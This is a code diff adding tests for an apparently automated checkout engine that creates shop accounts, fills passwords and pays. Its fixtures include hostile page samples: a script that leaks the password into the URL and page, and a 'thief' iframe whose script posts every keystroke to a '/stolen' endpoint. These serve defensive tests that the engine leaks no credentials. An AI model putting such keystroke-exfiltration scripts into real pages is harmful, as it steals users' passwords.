@@ -1,9 +1,12 @@
+import { type Login, LoginSecret } from '@florin/checkout-browser/account/login-secret';
+import type { Step } from '@florin/checkout-browser/driver';
 import { type FixtureSite, startFixtureSite } from '@florin/checkout-browser/fixture-site.testing';
 import { testCards } from '@florin/sandbox/processor/test-cards';
-import { isLong } from '@florin/testing/drawn';
 import { afterAll, beforeAll, expect, it } from 'vitest';
+import { createCheckoutEngine } from '../engine.ts';
 import {
   anyChoice,
+  attemptOf,
   BUYER,
   buy,
   type CheckoutSetup,
@@ -122,4 +125,149 @@ it.concurrent('a purchase that is taken up again enters what was written down th
   expect(shop.merchant.customers()).toMatchObject([
     { username: wallet.logins[0]!.username, password: wallet.logins[0]!.password },
   ]);
+});
+
+const GERMAN = {
+  '/produkt': `<h1>Becher</h1><meta property="product:price:currency" content="EUR"><p>20,00 €</p>
+<form method="post" action="/warenkorb"><button>In den Warenkorb</button></form>`,
+  '/warenkorb': `<h1>Warenkorb</h1><table><tr><td><a href="/produkt">Becher</a></td><td>20,00 €</td></tr></table>
+<p>Zwischensumme 20,00 €</p><a href="/kasse">Zur Kasse</a>`,
+  '/kasse': `<h1>Kasse</h1><form method="post" action="/danke"><h2>Konto anlegen</h2>
+<label>Benutzername <input name="nutzer" required></label>
+<label>Passwort <input type="password" name="pw1" minlength="10" maxlength="14" pattern="[A-Za-z0-9]+" required></label>
+<label>Passwort wiederholen <input type="password" name="pw2" maxlength="14" required></label>
+<h2>Rechnungsadresse</h2><label>E-Mail <input type="email" name="mail" required></label><label>Vorname <input name="vorname" required></label>
+<label>Nachname <input name="nachname" required></label><label>Straße und Hausnummer <input name="strasse" required></label>
+<label>PLZ <input name="plz" required></label><label>Ort <input name="ort" required></label>
+<h2>Zahlung</h2><label>Kartennummer <input name="karte" autocomplete="cc-number"></label><label>Gültig bis (MM/JJ) <input name="bis" autocomplete="cc-exp"></label>
+<table><tr><td><a href="/produkt">Becher</a></td><td>20,00 €</td></tr></table>
+<dl><dt>Zwischensumme</dt><dd>20,00 €</dd><dt>Versand</dt><dd>5,00 €</dd><dt>Gesamtsumme</dt><dd>25,00 €</dd></dl>
+<button>Zahlungspflichtig bestellen</button></form>`,
+  '/danke': `<h1>Vielen Dank für Ihre Bestellung</h1><p>Ihre Bestellnummer lautet 10042.</p>
+<p>Sie erhalten in Kürze eine Bestätigung per E-Mail.</p>`,
+};
+
+async function fixture(pages: Record<string, string>) {
+  const site = await startFixtureSite(pages);
+  sites.push(site);
+  return site;
+}
+
+function engineFor() {
+  return createCheckoutEngine({
+    drivers: [setup.browserDriver()],
+    policy: setup.policy,
+    processorOrigins: [setup.sandbox.processor.url],
+    currencies: ['usd', 'eur'],
+    boundsMs: { resolve: 90_000, options: 90_000, quote: 90_000 },
+  });
+}
+
+it.concurrent('a German shop gets a login that fits what its fields take', async () => {
+  const site = await fixture(GERMAN);
+  const { outcome, wallet } = await buy(setup, engineFor(), `${site.url}/produkt`, { buyer: WITH_ACCOUNT });
+  expect(outcome, JSON.stringify(outcome)).toMatchObject({ kind: 'placed' });
+  const [{ username, password }] = wallet.logins as [Login];
+  expect(password).toMatch(/^[A-Za-z0-9]{14}$/);
+  const sent = new URLSearchParams(site.posts.at(-1)!.replace('POST /danke ', ''));
+  expect([sent.get('nutzer'), sent.get('pw1'), sent.get('pw2')]).toEqual([username, password, password]);
+  expect(sent.get('mail')).toBe(BUYER.email);
+});
+
+const PRODUCT = `<h1>Mug</h1><meta property="product:price:currency" content="USD"><p>$20.00</p>
+<form method="post" action="/cart"><button>Add to cart</button></form>`;
+const CART = `<h1>Your cart</h1><table><tr><td><a href="/product">Mug</a></td><td>$20.00</td></tr></table><p>Subtotal $20.00</p><a href="/checkout">Checkout</a>`;
+const SUMS = `<table><tr><td><a href="/product">Mug</a></td><td>$20.00</td></tr></table>
+<dl><dt>Subtotal</dt><dd>$20.00</dd><dt>Shipping</dt><dd>$5.00</dd><dt>Total</dt><dd>$25.00</dd></dl>`;
+const WHO = `<label>Email <input type="email" name="email" required></label><label>Full name <input name="name" required></label>
+<label>Address <input name="street" required></label><label>City <input name="city" required></label><label>Postal code <input name="zip" required></label>`;
+const CARD = `<label>Card number <input name="number" autocomplete="cc-number"></label><label>Expiry (MM/YY) <input name="expiry" autocomplete="cc-exp"></label>`;
+
+const checkoutWith = (account: string, more = '') =>
+  `<h1>Checkout</h1><form method="post" action="/done">${WHO}${account}${CARD}${SUMS}<button>Place order</button></form>${more}`;
+const shopOf = (checkout: string, done = '<h1>Thank you for your order</h1><p>Order number 10042</p>') => ({
+  '/product': PRODUCT,
+  '/cart': CART,
+  '/checkout': checkout,
+  '/done': done,
+});
+
+const NEW = '<label>Password <input type="password" name="pw" required></label>';
+
+it.concurrent('a shop that repeats the password everywhere finds it nowhere in what is kept', async () => {
+  const repeat = `<script>document.querySelector('form').addEventListener('submit', (event) => {
+const pw = event.target.elements.pw.value; sessionStorage.pw = pw;
+event.target.action = '/done?password=' + encodeURIComponent(pw) + '&again=' + pw.toUpperCase(); });</script>`;
+  const done = `<h1>Thank you for your order</h1><p>Order number <b id="n"></b></p><p id="p"></p><p>We sent a receipt to your email.</p>
+<script>n.textContent = sessionStorage.pw; p.textContent = 'Your password is ' + sessionStorage.pw; document.title = sessionStorage.pw;</script>`;
+  const site = await fixture(shopOf(checkoutWith(NEW, repeat), done));
+  const steps: Step[] = [];
+  const engine = engineFor();
+  const { flow, choice, quote } = await quoteFor(setup, engine, `${site.url}/product`, {
+    buyer: WITH_ACCOUNT,
+  });
+  const wallet = walletWith();
+  const context = { ...setup.context(), log: (step: Step) => void steps.push(step) };
+  const input = { flow, choice, quote, payment: wallet.port, approvedOrigins: [flow.origin] };
+  const outcome = await engine.commit(input, context);
+  const { password } = wallet.logins[0]!;
+  expect(site.posts.at(-1)).toContain(`pw=${encodeURIComponent(password).replace('!', '%21')}`);
+  const kept = JSON.stringify([steps, outcome, wallet.armings]).toLowerCase();
+  expect(kept).not.toContain(password.slice(0, -1).toLowerCase());
+  const secret = new LoginSecret(wallet.logins[0]!);
+  const attempt = { ...attemptOf(choice, quote, wallet), login: secret };
+  const looked = await engine.reconcile(flow, attempt, context);
+  expect(JSON.stringify([steps, looked]).toLowerCase()).not.toContain(password.slice(0, -1).toLowerCase());
+  const login = steps.findIndex(({ name }) => name === 'card_entry');
+  expect(login).toBeGreaterThan(-1);
+  expect(steps.slice(login).filter(({ screenshot }) => screenshot !== undefined)).toEqual([]);
+});
+
+it.concurrent.each([
+  [
+    'a sign-in beside the order',
+    `<label>Password <input type="password" name="pw" autocomplete="current-password" required></label>`,
+  ],
+  [
+    'a secret of another kind',
+    `<label>Online banking PIN <input type="password" name="pin" required></label>`,
+  ],
+])('%s gets nothing, with the option or without', async (_name, field) => {
+  const site = await fixture(shopOf(checkoutWith(field)));
+  const engine = engineFor();
+  const resolved = await engine.resolve(`${site.url}/product`, setup.context());
+  if (resolved.kind !== 'resolved') throw new Error(resolved.detail);
+  const quoted = await engine.quote(resolved.flow, { ...choiceOf(), buyer: WITH_ACCOUNT }, setup.context());
+  expect(quoted).toMatchObject({ kind: 'failed', code: 'login_required' });
+  expect(site.posts).toEqual(['POST /cart ']);
+});
+
+it.concurrent('an account that is wanted before the payment is not made', async () => {
+  const first = `<h1>Checkout</h1><form method="post" action="/pay">${WHO}${NEW}<button>Continue to payment</button></form>`;
+  const site = await fixture({ ...shopOf(first), '/pay': checkoutWith('') });
+  const engine = engineFor();
+  const resolved = await engine.resolve(`${site.url}/product`, setup.context());
+  if (resolved.kind !== 'resolved') throw new Error(resolved.detail);
+  for (const [buyer, words] of [
+    [WITH_ACCOUNT, 'only together with the order'],
+    [BUYER, 'options.buyer.account'],
+  ] as const)
+    expect(await engine.quote(resolved.flow, { ...choiceOf(), buyer }, setup.context())).toMatchObject({
+      kind: 'failed',
+      code: 'login_required',
+      detail: expect.stringContaining(words),
+    });
+  expect(site.posts).toEqual(['POST /cart ', 'POST /cart ']);
+});
+
+it.concurrent('a frame of another site that asks for a password gets none', async () => {
+  const thief = await fixture({
+    '/': `<form method="post" action="/stolen"><label>Password <input type="password" name="pw" autocomplete="new-password" required></label></form>
+<script>addEventListener('input', (event) => fetch('/stolen', { method: 'POST', body: event.target.value }));</script>`,
+  });
+  const frame = `<iframe src="${thief.url.replace('localhost', '127.0.0.1')}/" width="400" height="200"></iframe>`;
+  const site = await fixture(shopOf(checkoutWith(NEW, frame)));
+  const { outcome, wallet } = await buy(setup, engineFor(), `${site.url}/product`, { buyer: WITH_ACCOUNT });
+  expect(outcome.kind, JSON.stringify(outcome)).toBe('placed');
+  expect([wallet.logins.length, thief.posts]).toEqual([1, []]);
 });
